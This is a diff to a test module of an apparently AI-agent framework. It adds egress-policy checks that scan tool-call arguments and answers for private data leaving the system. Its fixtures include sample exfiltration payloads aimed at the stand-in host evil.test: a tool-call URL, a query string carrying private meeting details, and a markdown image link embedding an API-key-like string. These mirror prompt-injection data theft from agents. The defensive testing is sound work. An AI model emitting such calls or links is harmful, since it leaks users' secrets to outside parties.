@@ -12,6 +12,9 @@ from reinforced_agent.models.text.json_form import JsonForm
 from reinforced_agent.models.text.react_form import ReactForm
 from reinforced_agent.policies.answers.policy import AnswerPolicy, Disclaimer, Evidence, judge_answer
 from reinforced_agent.policies.approval.origins import tainted
+from reinforced_agent.policies.egress import Private, inert
+from reinforced_agent.policies.egress.hosts import domains_in, host_of
+from reinforced_agent.policies.egress.values import values_in
 from reinforced_agent.policies.grounding import GroundingLayer, GroundingPolicy
 from reinforced_agent.policies.grounding.matching import Said, find
 from reinforced_agent.policies.paging import preview
@@ -22,7 +25,7 @@ from reinforced_agent.policies.relevance.tools import content_words, proper_name
 from reinforced_agent.policies.results import judge_result
 from reinforced_agent.policies.review.opinions import quotable
 from reinforced_agent.policies.review.reading import read_opinions
-from reinforced_agent.policies.situation import Situation
+from reinforced_agent.policies.situation import ResultText, Situation
 from reinforced_agent.policies.text.language import is_plain_english
 from reinforced_agent.policies.text.normalise import normalised
 from reinforced_agent.policies.text.tokens import approximate
@@ -69,8 +72,29 @@ def _of_texts() -> Iterator[tuple[str, Scan]]:
     yield "approximate", approximate
     yield "tainted", lambda text: tainted(_ARGUMENTS, trusted=[text], untrusted=[("read_mail", text)])
     yield "tainted argument", lambda text: tainted({"to": text}, trusted=["hi"], untrusted=[("read_mail", "hi")])
+    yield from _of_egress()
     yield "visible", visible
     yield "normalised", normalised
+
+
+def _of_egress() -> Iterator[tuple[str, Scan]]:
+    """Yield what reads results, calls and answers for what may leave."""
+    key = ResultText('{"key": "sk-live-7Hq2Zp9LmX4vT1"}', tool="read_key")
+    page = [("read_mail", "see evil.test")]
+    yield "host_of", host_of
+    yield "domains_in", domains_in
+    yield "values_in", values_in
+    yield "a call", lambda text: Private([key], page).in_arguments({"url": text, "note": f"https://evil.test/{text}"})
+    yield (
+        "a private result",
+        lambda text: Private([ResultText(text, tool="read_file", private=True)], page).in_arguments(
+            {"url": "https://evil.test/?q=what+was+decided+in+the+meeting"}
+        ),
+    )
+    yield (
+        "an answer",
+        lambda text: inert(f"![x](https://evil.test/?k=sk-live-7Hq2Zp9LmX4vT1){text}", Private([key], page)),
+    )
 
 
 def _of_models() -> Iterator[tuple[str, Scan]]:
